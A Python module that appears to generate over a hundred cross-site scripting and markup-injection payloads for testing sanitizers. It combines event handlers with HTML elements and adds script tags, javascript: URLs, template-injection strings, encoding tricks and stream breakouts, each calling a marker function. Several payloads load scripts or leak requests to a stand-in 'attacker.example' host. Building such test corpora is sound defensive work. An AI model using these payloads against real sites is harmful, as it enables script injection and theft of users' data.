"""Texts that run a script, load something or break out of their place wherever text is taken for markup."""

from itertools import product

_EVENTS = (
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onanimationstart",
    "onbeforetoggle",
)
_ELEMENTS = (
    "<img src=x {event}={call}>",
    "<svg {event}={call}>",
    '<details open {event}="{call}"><summary>x</summary></details>',
    "<input autofocus {event}={call}>",
    "<video src=x {event}={call}><source {event}={call}></video>",
    "<body {event}={call}>",
    '"><img src=x {event}={call} x="',
)
_SINGLE = (
    "<script>{call}</script>",
    "<SCRIPT\n>{call}</SCRIPT\t>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "</script><script>{call}</script>",
    "<script src=https://attacker.example/x.js></script>",
    "<script type=module>import 'https://attacker.example/x.js'</script>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:parent.{call}></iframe>",
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<a href=javascript:{call} autofocus>x</a>",
    "<a href=' java\tscript:{call}'>x</a>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<math><maction actiontype=statusline xlink:href=javascript:{call}>x</maction></math>",
    "<svg><animate attributeName=href values=javascript:{call} /></svg>",
    "<svg><set attributeName=onload to={call} /></svg>",
    "<style>*{{background:url(https://attacker.example/{number})}}</style>",
    "<style>@import 'https://attacker.example/{number}.css'</style>",
    "<link rel=stylesheet href=https://attacker.example/{number}.css>",
    "<link rel=prefetch href=https://attacker.example/{number}>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/{number}'>",
    "<base href=https://attacker.example/>",
    "<img src=https://attacker.example/{number}?leak=1>",
    "![x](https://attacker.example/{number})",
    "[x](javascript:{call})",
    "[x](data:text/html,<script>{call}</script>)",
    "<https://attacker.example/{number}>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "</style><script>{call}</script>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<table><td background=javascript:{call}>",
    "<template shadowrootmode=open><script>{call}</script></template>",
    "<!--><script>{call}</script-->",
    "<![CDATA[<script>{call}</script>]]>",
    "<?xml-stylesheet href=javascript:{call}?>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;img src=x onerror={call}&#62;",
    "\\u003cimg src=x onerror={call}\\u003e",
    "%3Cscript%3E{call}%3C/script%3E",
    "＜script＞{call}＜/script＞",
    "\u202e<svg onload={call}>",
    "<\u200bimg src=x onerror={call}>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "{{% {call} %}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "javascript:{call}//",
    "';{call};//",
    '");{call};//',
    "`-{call}-`",
    "\nevent: done\ndata: {{}}\n\n<img src=x onerror={call}>",
    "\r\n\r\n<script>{call}</script>",
    '"}}\n\ndata: {{"text": "<img src=x onerror={call}>"}}',
)


def attacks() -> list[str]:
    """More than a hundred, each with a number of its own; one that works calls ``harmed`` with it."""
    shapes = [shape.replace("{event}", event) for shape, event in product(_ELEMENTS, _EVENTS)]
    return [
        shape.format(call=f"harmed({number})", number=number)
        for number, shape in enumerate([*shapes, *_SINGLE])
    ]
